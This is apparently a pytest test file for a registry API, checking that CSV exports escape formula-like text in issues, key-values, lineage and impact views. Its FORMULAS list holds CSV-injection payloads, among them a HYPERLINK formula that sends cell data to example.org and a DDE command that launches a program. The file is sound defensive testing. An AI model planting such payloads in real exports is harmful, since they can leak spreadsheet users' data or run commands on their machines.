"""CSV escapes texts that spreadsheets would evaluate as formulas."""

from __future__ import annotations

import csv
from typing import Any

import pytest

from registry.api.base.renderers import iter_csv
from tests.api.client import Api, content_of, data_of, path_of, rows_of
from tests.factories import (
    CodeRunFactory,
    DataProductFactory,
    IssueFactory,
    KeyValueFactory,
    NamespaceFactory,
    ObjectFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_escaped_unless_raw(text: str) -> None:
    issue = IssueFactory(description=text)
    for path in ("/api/issue/", path_of(issue)):
        [row] = rows_of(Api().get(path, {"format": "csv"}))
        assert row["description"] == f"'{text}"
        for raw in ("true", "True"):
            [row] = rows_of(Api().get(path, {"format": "csv", "raw": raw}))
            assert row["description"] == text
        [row] = rows_of(Api().get(path, {"format": "csv", "raw": "false"}))
        assert row["description"] == f"'{text}"


def test_only_the_beginning_of_a_text_is_escaped() -> None:
    text = "a=1, -2 and '=3'"
    KeyValueFactory(key="'=1", value=text)
    [row] = rows_of(Api().get("/api/key_value/", {"format": "csv"}))
    assert (row["key"], row["value"]) == ("'=1", text)


def test_numbers_are_not_escaped() -> None:
    row: dict[str, Any] = {"whole": -1, "part": -0.5, "flag": True, "none": None}
    assert "".join(iter_csv(row, [[row]])) == (
        "whole,part,flag,none\r\n-1,-0.5,true,\r\n"
    )


def test_formulas_in_errors_are_escaped() -> None:
    answer = Api().get("/api/issue/", {"format": "csv", "fields": "=1+1"})
    assert answer.status_code == 400
    [_, [message]] = csv.reader(content_of(answer).decode().splitlines())
    assert message.startswith("'=1+1: choose from")


@pytest.mark.parametrize("path", ["/api/issue/", "/api/username/"])
def test_an_invalid_value_of_raw_is_refused(path: str) -> None:
    api = Api(UserFactory())
    assert list(data_of(api.get(path, {"raw": "yes please"}), 400)) == ["raw"]


def test_formulas_in_lineage_and_impact_are_escaped() -> None:
    namespace = NamespaceFactory(name="=1+1")
    product = DataProductFactory(
        namespace=namespace, name="=cmd", object=ObjectFactory()
    )
    made = DataProductFactory(namespace=namespace, name="made", object=ObjectFactory())
    parts = [one.object.components.get() for one in (product, made)]
    CodeRunFactory(inputs=parts[:1], outputs=parts[1:])
    place = f"data_product/{product.pk}/"
    for path in (f"/api/lineage/{place}?direction=both", f"/api/impact/{place}?"):
        plain = rows_of(Api().get(f"{path}&format=csv&raw=true"))
        assert any(cell.startswith("=") for row in plain for cell in row.values())
        assert rows_of(Api().get(f"{path}&format=csv")) == [
            {
                name: f"'{cell}" if cell.startswith("=") else cell
                for name, cell in row.items()
            }
            for row in plain
        ]
